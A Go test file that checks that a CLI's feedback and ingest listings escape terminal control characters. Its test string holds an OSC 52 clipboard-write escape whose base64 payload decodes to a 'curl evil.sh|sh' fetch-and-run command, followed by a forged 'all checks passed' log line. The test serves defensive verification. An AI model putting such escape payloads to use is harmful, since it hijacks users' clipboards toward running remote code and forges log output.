package main

import (
	"context"
	"io"
	"log/slog"
	"strings"
	"testing"

	"github.com/threadwright/threadwright/conversation"
	"github.com/threadwright/threadwright/store"
)

// osc52 is a terminal escape that writes the clipboard, then a forged log line.
const osc52 = "\x1b]52;c;Y3VybCBldmlsLnNofHNo\x07\nINFO all checks passed"

// TestCLIOutputEscapesControlCharacters (issue 25, item 6): a feedback reason typed in
// Slack and a source name in the store, each holding an OSC 52 clipboard write, BEL
// and a newline, reach the terminal escaped by `threadwright feedback` and
// `threadwright ingest --list`: no ESC, no BEL, no forged line.
func TestCLIOutputEscapesControlCharacters(t *testing.T) {
	dir := t.TempDir()
	setEnv(t, map[string]string{"DATA_DIR": dir, "DATABASE_URL": "", "SLACK_BOT_TOKEN": ""})
	ctx := context.Background()
	st, err := store.Open(ctx, store.Options{DataDir: dir, Logger: slog.New(slog.NewTextHandler(io.Discard, nil))})
	if err != nil {
		t.Fatal(err)
	}
	key := conversation.Key{TeamID: "T0TEAM", ChannelID: "C0GENERAL", ThreadTS: "1700000000.000100"}
	if err := st.(conversation.FeedbackStore).SaveFeedback(ctx, conversation.Feedback{Key: key, MessageTS: "1700000000.000200",
		UserID: "U0ALICE", Rating: conversation.RatingNegative, Reason: "wrong " + osc52}); err != nil {
		t.Fatal(err)
	}
	if _, err := st.(conversation.Knowledge).ReplaceSource(ctx, "evil"+osc52+".md", "h1", conversation.Origin{By: "api:portal", Untrusted: true},
		[]conversation.Chunk{{Text: "text"}}); err != nil {
		t.Fatal(err)
	}
	if err := st.Close(); err != nil {
		t.Fatal(err)
	}
	fb, err := runCLI(t, "feedback")
	if err != nil {
		t.Fatalf("feedback: %v\n%s", err, fb)
	}
	list, err := ingestCmd(t, "--list")
	if err != nil {
		t.Fatalf("ingest --list: %v\n%s", err, list)
	}
	for what, out := range map[string]string{"feedback": fb, "ingest --list": list} {
		if strings.ContainsAny(out, "\x1b\x07") || strings.Contains(out, "\nINFO all checks passed") {
			t.Errorf("%s prints the escape raw:\n%q", what, out)
		}
		if !strings.Contains(out, `\x1b]52;c;Y3VybCBldmlsLnNofHNo\x07`) {
			t.Errorf("%s does not show the escaped text:\n%q", what, out)
		}
	}
	if !strings.Contains(list, "api:portal (untrusted)") {
		t.Errorf("ingest --list does not show the upload's origin:\n%s", list)
	}
}
